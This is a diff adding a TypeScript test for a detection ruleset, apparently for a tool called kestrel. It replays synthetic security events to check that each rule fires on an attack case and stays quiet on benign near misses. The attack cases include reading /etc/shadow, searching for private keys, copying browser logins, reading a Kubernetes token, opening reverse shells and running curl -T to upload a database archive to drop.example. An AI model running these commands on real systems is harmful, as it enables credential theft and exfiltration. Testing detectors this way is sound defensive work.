@@ -1,0 +1,414 @@
+/**
+ * Precision of the default rules for credential access, discovery, lateral
+ * movement, command and control, exfiltration and impact: for each rule, a
+ * case that must fire it and near misses (the same tool or event shape used
+ * benignly, or one step short of a sequence) on which no default rule may
+ * fire. All cases go through one real `kestrel replay` of the default
+ * ruleset; alerts are attributed to cases by process id (case n uses pids
+ * n*100 … n*100+99), and each case has its own ten-minute window so that
+ * sequences never span two cases.
+ */
+import assert from "node:assert/strict";
+
+const ROOT = decodeURIComponent(new URL("../../", import.meta.url).pathname);
+const BASE = Date.UTC(2026, 0, 5, 8, 0, 0);
+
+type Json = Record<string, unknown>;
+
+/** One event of a case: its offset in ms from the case's start, and its ECS body. */
+interface Step {
+  ms: number;
+  body: Json;
+}
+
+/** A case: the rule that must fire (`fires`), or none for a near miss. */
+interface Case {
+  name: string;
+  fires?: string;
+  steps: (pid: number) => Step[];
+}
+
+/** The acting process: `name`, `args`, parent `parent` (a name), `extra` merged in. */
+function proc(pid: number, name: string, args: string[], parent = "bash", extra: Json = {}): Json {
+  return {
+    pid,
+    entity_id: `e-${pid}`,
+    name,
+    executable: `/usr/bin/${name}`,
+    args,
+    args_count: args.length,
+    command_line: args.join(" "),
+    parent: { pid: pid + 50, entity_id: `e-${pid + 50}`, name: parent },
+    ...extra,
+  };
+}
+
+function exec(pid: number, name: string, args: string[], parent = "bash", extra: Json = {}): Json {
+  return {
+    event: { category: ["process"], type: ["start"], action: "exec" },
+    process: proc(pid, name, args, parent, extra),
+  };
+}
+
+function file(pid: number, who: string, action: string, path: string, extra: Json = {}): Json {
+  const name = path.slice(path.lastIndexOf("/") + 1);
+  const dot = name.lastIndexOf(".");
+  const type = action === "creation" ? "creation" : action === "open" ? "access" : "change";
+  return {
+    event: { category: ["file"], type: [type], action, outcome: "success" },
+    process: proc(pid, who, [who]),
+    file: {
+      path,
+      name,
+      directory: path.slice(0, path.lastIndexOf("/")) || "/",
+      ...(dot > 0 ? { extension: name.slice(dot + 1) } : {}),
+      ...extra,
+    },
+  };
+}
+
+function connect(pid: number, who: string, ip: string, port: number, outcome = "success"): Json {
+  return {
+    event: { category: ["network"], type: ["start"], action: "connection_attempted", outcome },
+    process: proc(pid, who, [who]),
+    network: { transport: "tcp", type: "ipv4", direction: "egress" },
+    destination: { ip, port },
+  };
+}
+
+function dns(pid: number, who: string, name: string): Json {
+  return {
+    event: { category: ["network"], type: ["protocol"], action: "lookup_requested" },
+    process: proc(pid, who, [who]),
+    network: { transport: "udp", protocol: "dns", direction: "egress" },
+    destination: { ip: "127.0.0.53", port: 53 },
+    dns: { question: { name, type: "A", class: "IN" } },
+  };
+}
+
+function auth(pid: number, outcome: string, user: string, ip?: string): Json {
+  return {
+    event: { category: ["authentication"], type: ["start"], action: "log_on", outcome },
+    process: proc(pid, "sshd-session", ["sshd-session"], "sshd"),
+    user: { name: user },
+    ...(ip ? { source: { ip } } : {}),
+  };
+}
+
+function ptrace(pid: number, who: string, request: number, child: number): Json {
+  return {
+    event: { category: ["process"], type: ["access"], action: "ptrace", outcome: "success" },
+    process: proc(pid, who, [who], "bash", { Ext: { ptrace: { request, child_pid: child } } }),
+  };
+}
+
+/** `n` steps 100 ms apart. */
+function times(n: number, f: (i: number) => Json): Step[] {
+  return Array.from({ length: n }, (_, i) => ({ ms: i * 100, body: f(i) }));
+}
+
+const one = (body: Json): Step[] => [{ ms: 0, body }];
+const socketIo = { Ext: { stdin: "socket", stdout: "socket" } };
+const long = (i: number) => `${"a".repeat(60)}.${"b".repeat(50)}.${i}.t.example.net`;
+
+const CASES: Case[] = [
+  {
+    name: "cat /etc/shadow",
+    fires: "credential-access-shadow-file-read",
+    steps: (p) => one(file(p, "cat", "open", "/etc/shadow")),
+  },
+  {
+    name: "unix_chkpwd reads /etc/shadow",
+    steps: (p) => one(file(p, "unix_chkpwd", "open", "/etc/shadow")),
+  },
+  { name: "cat /etc/passwd", steps: (p) => one(file(p, "cat", "open", "/etc/passwd")) },
+  {
+    name: "grep -ri password",
+    fires: "credential-access-recursive-grep-for-secrets",
+    steps: (p) => one(exec(p, "grep", ["grep", "-ri", "password", "/srv/app"])),
+  },
+  { name: "grep -r todo", steps: (p) => one(exec(p, "grep", ["grep", "-r", "todo", "notes"])) },
+  {
+    name: "grep password in one file",
+    steps: (p) => one(exec(p, "grep", ["grep", "password", "/etc/login.defs"])),
+  },
+  {
+    name: "find id_rsa",
+    fires: "credential-access-private-key-file-search",
+    steps: (p) => one(exec(p, "find", ["find", "/", "-name", "id_rsa"])),
+  },
+  { name: "find *.c", steps: (p) => one(exec(p, "find", ["find", ".", "-name", "*.c"])) },
+  {
+    name: "update-ca-certificates finds *.pem",
+    steps: (p) =>
+      one(
+        exec(
+          p,
+          "find",
+          ["find", "-L", "/etc/ssl/certs", "-name", "*.pem"],
+          "update-ca-certificates",
+        ),
+      ),
+  },
+  {
+    name: "mimipenguin",
+    fires: "credential-access-credential-dumper-tool",
+    steps: (p) => one(exec(p, "python3", ["python3", "/tmp/x/mimipenguin.py"])),
+  },
+  {
+    name: "ls of a mimipenguin checkout",
+    steps: (p) => one(exec(p, "ls", ["ls", "/src/mimipenguin/"])),
+  },
+  {
+    name: "five failed logins then a success",
+    fires: "credential-access-pam-brute-force-then-success",
+    steps: (p) => [
+      ...times(5, () => auth(p, "failure", "alice")),
+      { ms: 1000, body: auth(p, "success", "alice") },
+    ],
+  },
+  {
+    name: "four failed logins then a success",
+    steps: (p) => [
+      ...times(4, () => auth(p, "failure", "alice")),
+      { ms: 1000, body: auth(p, "success", "alice") },
+    ],
+  },
+  {
+    name: "ten failed logins from one address",
+    fires: "credential-access-pam-password-spraying",
+    steps: (p) => times(10, (i) => auth(p, "failure", `user${i}`, "192.0.2.7")),
+  },
+  {
+    name: "nine failed logins from one address",
+    steps: (p) => times(9, (i) => auth(p, "failure", `user${i}`, "192.0.2.7")),
+  },
+  {
+    name: "attach then peek",
+    fires: "credential-access-ptrace-memory-read",
+    steps: (p) => [
+      { ms: 0, body: ptrace(p, "python3", 16, 4242) },
+      { ms: 10, body: ptrace(p, "python3", 2, 4242) },
+    ],
+  },
+  {
+    name: "gdb attach then peek",
+    steps: (p) => [
+      { ms: 0, body: ptrace(p, "gdb", 16, 4242) },
+      { ms: 10, body: ptrace(p, "gdb", 2, 4242) },
+    ],
+  },
+  {
+    name: "whoami, uname, ip, getent",
+    fires: "discovery-host-enumeration-burst",
+    steps: (p) =>
+      [
+        { ms: 0, body: exec(p, "whoami", ["whoami"]) },
+        { ms: 100, body: exec(p + 1, "uname", ["uname", "-a"]) },
+        { ms: 200, body: exec(p + 2, "ip", ["ip", "addr"]) },
+        { ms: 300, body: exec(p + 3, "getent", ["getent", "passwd"]) },
+      ].map((s) => ({ ...s, body: withParent(s.body, p + 90) })),
+  },
+  {
+    name: "whoami, uname, ip",
+    steps: (p) =>
+      [
+        { ms: 0, body: exec(p, "whoami", ["whoami"]) },
+        { ms: 100, body: exec(p + 1, "uname", ["uname", "-a"]) },
+        { ms: 200, body: exec(p + 2, "ip", ["ip", "addr"]) },
+      ].map((s) => ({ ...s, body: withParent(s.body, p + 90) })),
+  },
+  {
+    name: "twenty refused connections",
+    fires: "discovery-network-port-scan",
+    steps: (p) => times(20, (i) => connect(p, "python3", "10.0.0.9", 1000 + i, "failure")),
+  },
+  {
+    name: "nineteen refused connections",
+    steps: (p) => times(19, (i) => connect(p, "python3", "10.0.0.9", 1000 + i, "failure")),
+  },
+  {
+    name: "ssh -R",
+    fires: "command-and-control-ssh-port-forwarding",
+    steps: (p) => one(exec(p, "ssh", ["ssh", "-N", "-R", "9000:localhost:22", "gw.example"])),
+  },
+  {
+    name: "ssh -l admin",
+    steps: (p) => one(exec(p, "ssh", ["ssh", "-l", "admin", "db.example"])),
+  },
+  {
+    name: "ssh -L",
+    steps: (p) => one(exec(p, "ssh", ["ssh", "-L", "8080:localhost:80", "web.example"])),
+  },
+  {
+    name: "bash connects out on 4444",
+    fires: "command-and-control-shell-network-connection",
+    steps: (p) => one(connect(p, "bash", "203.0.113.5", 4444)),
+  },
+  { name: "bash resolver on 53", steps: (p) => one(connect(p, "bash", "127.0.0.53", 53)) },
+  {
+    name: "sh -i on a socket from python",
+    fires: "command-and-control-interactive-shell-on-socket",
+    steps: (p) => one(exec(p, "sh", ["sh", "-i"], "python3", socketIo)),
+  },
+  {
+    name: "shell on a socket under sshd-session",
+    steps: (p) => one(exec(p, "bash", ["bash"], "sshd-session", socketIo)),
+  },
+  {
+    name: "shell script with stdin on a socket",
+    steps: (p) => one(exec(p, "sh", ["sh", "/usr/lib/helper.sh"], "python3", socketIo)),
+  },
+  {
+    name: "DNS of a mining pool",
+    fires: "impact-mining-pool-dns-lookup",
+    steps: (p) => one(dns(p, "kworker", "pool.supportxmr.com")),
+  },
+  { name: "DNS of an NTP pool", steps: (p) => one(dns(p, "chronyd", "2.debian.pool.ntp.org")) },
+  {
+    name: "ten long DNS names",
+    fires: "command-and-control-dns-tunneling-burst",
+    steps: (p) => times(10, (i) => dns(p, "python3", long(i))),
+  },
+  {
+    name: "nine long DNS names",
+    steps: (p) => times(9, (i) => dns(p, "python3", long(i))),
+  },
+  {
+    name: "five files renamed to .encrypted",
+    fires: "impact-ransomware-mass-encrypted-rename",
+    steps: (p) => times(5, (i) => file(p, "python3", "rename", `/home/u/doc${i}.pdf.encrypted`)),
+  },
+  {
+    name: "five lock files renamed into place",
+    steps: (p) => times(5, (i) => file(p, "cargo", "rename", `/src/c${i}/Cargo.lock`)),
+  },
+  {
+    name: "ransom note",
+    fires: "impact-ransom-note-created",
+    steps: (p) => one(file(p, "python3", "creation", "/home/u/HOW_TO_DECRYPT_FILES.txt")),
+  },
+  {
+    name: "crypto library documentation",
+    steps: (p) => one(file(p, "make", "creation", "/build/doc/EVP_DecryptInit.html")),
+  },
+  {
+    name: "systemctl stop postgresql",
+    fires: "impact-critical-service-stopped",
+    steps: (p) => one(exec(p, "systemctl", ["systemctl", "stop", "postgresql"])),
+  },
+  {
+    name: "package upgrade stops postgresql",
+    steps: (p) =>
+      one(exec(p, "systemctl", ["systemctl", "stop", "postgresql.service"], "deb-systemd-invoke")),
+  },
+  {
+    name: "systemctl restart nginx",
+    steps: (p) => one(exec(p, "systemctl", ["systemctl", "restart", "nginx"])),
+  },
+  {
+    name: "passwd -l",
+    fires: "impact-account-access-removal",
+    steps: (p) => one(exec(p, "passwd", ["passwd", "-l", "bob"])),
+  },
+  { name: "passwd -e", steps: (p) => one(exec(p, "passwd", ["passwd", "-e", "bob"])) },
+  {
+    name: "usermod -e in the future",
+    steps: (p) => one(exec(p, "usermod", ["usermod", "-e", "2030-01-01", "bob"])),
+  },
+  {
+    name: "service account token read",
+    fires: "credential-access-kubernetes-service-account-token",
+    steps: (p) =>
+      one(exec(p, "cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])),
+  },
+  {
+    name: "service account namespace read",
+    steps: (p) =>
+      one(exec(p, "cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/namespace"])),
+  },
+  {
+    name: "Firefox logins copied",
+    fires: "credential-access-browser-credential-store-access",
+    steps: (p) => one(exec(p, "cp", ["cp", "/home/u/.mozilla/firefox/x.default/logins.json", "."])),
+  },
+  {
+    name: "Firefox preferences copied",
+    steps: (p) => one(exec(p, "cp", ["cp", "/home/u/.mozilla/firefox/x.default/prefs.js", "."])),
+  },
+  {
+    name: "aws sts get-caller-identity",
+    fires: "discovery-cloud-identity-enumeration",
+    steps: (p) => one(exec(p, "aws", ["aws", "sts", "get-caller-identity"])),
+  },
+  { name: "aws s3 ls", steps: (p) => one(exec(p, "aws", ["aws", "s3", "ls"])) },
+  {
+    name: "shutdown -h now",
+    fires: "impact-system-shutdown-or-reboot",
+    steps: (p) => one(exec(p, "shutdown", ["shutdown", "-h", "now"])),
+  },
+  {
+    name: "reboot after unattended upgrades",
+    steps: (p) => one(exec(p, "shutdown", ["shutdown", "-r", "now"], "unattended-upgr")),
+  },
+  { name: "atd reads /etc/shadow", steps: (p) => one(file(p, "atd", "open", "/etc/shadow")) },
+  {
+    name: "curl -T",
+    fires: "exfiltration-curl-wget-file-upload",
+    steps: (p) => one(exec(p, "curl", ["curl", "-T", "db.tgz", "https://drop.example/"])),
+  },
+  {
+    name: "curl download",
+    steps: (p) => one(exec(p, "curl", ["curl", "-fsSL", "-o", "x.tgz", "https://example.com/x"])),
+  },
+];
+
+function withParent(body: Json, parentPid: number): Json {
+  const p = body.process as Json;
+  return {
+    ...body,
+    process: { ...p, parent: { pid: parentPid, entity_id: `e-${parentPid}`, name: "bash" } },
+  };
+}
+
+Deno.test("default rules fire on their cases and stay quiet on near misses", async () => {
+  const lines: string[] = [];
+  CASES.forEach((c, i) => {
+    const pid = (i + 1) * 100;
+    for (const s of c.steps(pid)) {
+      const ts = new Date(BASE + i * 600_000 + s.ms).toISOString();
+      lines.push(JSON.stringify({ "@timestamp": ts, host: { name: "h", id: "h1" }, ...s.body }));
+    }
+  });
+  const log = await Deno.makeTempFile({ suffix: ".ndjson" });
+  try {
+    await Deno.writeTextFile(log, lines.join("\n") + "\n");
+    const out = await new Deno.Command(Deno.execPath(), {
+      args: ["run", "-A", `${ROOT}main.ts`, "replay", "--rules", `${ROOT}rules`, "--events", log],
+      stdout: "piped",
+      stderr: "piped",
+      env: { NO_COLOR: "1" },
+    }).output();
+    const dec = new TextDecoder();
+    assert.equal(out.code, 0, dec.decode(out.stderr));
+    const fired = new Map<number, Set<string>>();
+    for (const line of dec.decode(out.stdout).split("\n")) {
+      if (line.trim() === "") continue;
+      const alert = JSON.parse(line);
+      const pid = alert.events[0].process.pid as number;
+      const i = Math.floor(pid / 100) - 1;
+      if (!fired.has(i)) fired.set(i, new Set());
+      fired.get(i)!.add(alert.kestrel.rule.id);
+    }
+    const problems: string[] = [];
+    CASES.forEach((c, i) => {
+      const got = [...(fired.get(i) ?? [])].sort();
+      if (c.fires && !got.includes(c.fires)) problems.push(`${c.name}: ${c.fires} did not fire`);
+      if (!c.fires && got.length > 0) problems.push(`${c.name}: ${got.join(", ")} fired`);
+    });
+    assert.deepEqual(problems, []);
+    assert.ok(CASES.some((c) => c.fires) && CASES.some((c) => !c.fires));
+  } finally {
+    await Deno.remove(log);
+  }
+});
